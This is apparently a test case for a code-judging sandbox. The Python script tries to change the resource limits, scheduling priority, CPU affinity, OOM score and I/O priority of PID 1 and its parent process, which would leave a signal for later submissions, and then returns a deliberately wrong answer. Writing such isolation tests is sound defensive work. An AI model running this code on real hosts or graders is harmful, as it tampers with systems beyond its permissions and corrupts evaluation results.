# attack: leaves a word for later programs in the worker's limits, priority and processors
# expect: wrong_answer
import ctypes
import os
import resource

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    for attempt in (
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (77, 77)),
        lambda: resource.prlimit(pid, resource.RLIMIT_AS, (1 << 20, 1 << 20)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.setpriority(os.PRIO_USER, 0, 19),
        lambda: os.setpriority(os.PRIO_PGRP, pid, 19),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("1000"),
    ):
        try:
            attempt()
        except OSError:
            pass
    libc.syscall(251, 1, pid, 3 << 13)  # ioprio_set: idle


def add_one(n):
    return 0
